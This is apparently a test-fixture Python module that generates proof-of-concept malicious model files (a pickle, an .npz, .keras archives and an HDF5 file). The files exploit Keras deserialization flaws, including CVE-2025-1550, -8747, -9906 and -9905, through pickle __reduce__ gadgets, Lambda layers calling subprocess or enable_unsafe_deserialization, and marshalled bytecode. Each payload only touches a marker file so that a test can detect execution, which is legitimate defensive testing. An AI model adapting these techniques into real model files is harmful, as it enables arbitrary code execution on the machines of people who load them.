"""Files that run code when they are loaded the usual way: each touches a marker. Run as a script, it loads models with
Keras, without its safe mode, so that a test can see that they do: `python malicious.py FILE...`
"""

import io
import json
import marshal
import pickle
import sys
import zipfile
from base64 import b64encode
from pathlib import Path

import numpy as np


class Touch:
    """Its unpickling touches a file."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self):
        return Path.touch, (self._marker,)


def pickled(marker: Path) -> bytes:
    return pickle.dumps(Touch(marker))


def arrays(marker: Path, *names: str) -> bytes:
    """An .npz whose arrays of those names hold an object that touches the marker."""
    file = io.BytesIO()
    objects = np.array([Touch(marker)], dtype=object)
    np.savez(file, **dict.fromkeys(names, objects))
    return file.getvalue()


def _archive(*layers: dict) -> bytes:
    """A .keras file of a model whose layers Keras makes, and calls, while it loads them."""
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "model", "layers": list(layers)},
        "registered_name": None,
    }
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        archive.writestr("model.weights.h5", b"")
    return file.getvalue()


def _input() -> dict:
    shape = {"batch_input_shape": [None, 1], "dtype": "float32", "name": "input"}
    return {"module": "keras.layers", "class_name": "InputLayer", "config": shape, "registered_name": None}


def _lambda(module: str, function: str, **arguments: object) -> dict:
    """A layer that calls a function of any module by its name."""
    named = {"module": module, "class_name": "function", "config": function, "registered_name": "function"}
    return _layer("function", function_type="function", function=named, arguments=arguments)


def _layer(name: str, **config: object) -> dict:
    output = {"output_shape": None, "output_shape_type": "raw", "output_shape_module": None}
    whole = {"name": name, "trainable": True, "dtype": "float32", "module": None, **output, **config}
    return {"module": "keras.layers", "class_name": "Lambda", "config": whole, "registered_name": None}


def _code(marker: Path) -> list:
    """Bytecode, as Keras keeps a lambda's: of a function that touches the marker and gives back what it is given."""
    space: dict = {}
    exec(f"def touching(x):\n    open({str(marker)!r}, 'w').close()\n    return x\n", space)
    return [b64encode(marshal.dumps(space["touching"].__code__)).decode(), None, None]


def _bytecode(marker: Path) -> dict:
    return _layer("bytecode", function_type="lambda", function=_code(marker), arguments={})


def any_function(marker: Path) -> bytes:
    """CVE-2025-1550: the archive names any function of any module, and it is called."""
    return _archive(_input(), _lambda("subprocess", "check_call", args=["touch", str(marker)]))


def download(marker: Path) -> bytes:
    """CVE-2025-8747: as that was mended, a function of Keras' own that writes any file, for what it is given."""
    wanted = {"fname": str(marker), "origin": Path(__file__).as_uri()}
    return _archive(_input(), _lambda("keras.utils", "get_file", **wanted))


def safe_mode_off(marker: Path) -> bytes:
    """CVE-2025-9906: the archive switches the safe mode off, and then brings bytecode."""
    return _archive(_input(), _lambda("keras.config", "enable_unsafe_deserialization"), _bytecode(marker))


def legacy(marker: Path) -> bytes:
    """CVE-2025-9905: in an HDF5 file bytecode is run, whatever the safe mode."""
    import h5py

    model = {"class_name": "Sequential", "config": {"name": "model", "layers": [_input(), _bytecode(marker)]}}
    file = io.BytesIO()
    with h5py.File(file, "w") as root:
        root.attrs["keras_version"], root.attrs["backend"] = "2.15.0", "tensorflow"
        root.attrs["model_config"] = json.dumps(model)
        weights = root.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([], dtype="S1")
    return file.getvalue()


# Name of the file -> how its bytes are made.
MODELS = {
    "any_function.keras": any_function,
    "download.keras": download,
    "safe_mode_off.keras": safe_mode_off,
    "legacy.h5": legacy,
    "network.pkl": pickled,
}


if __name__ == "__main__":
    import tf_keras

    for path in sys.argv[1:]:
        try:
            tf_keras.models.load_model(path, safe_mode=False)
        except Exception as error:
            # Most do what they are for, and then are no model.
            print(f"{path}: {type(error).__name__}: {error}", file=sys.stderr)
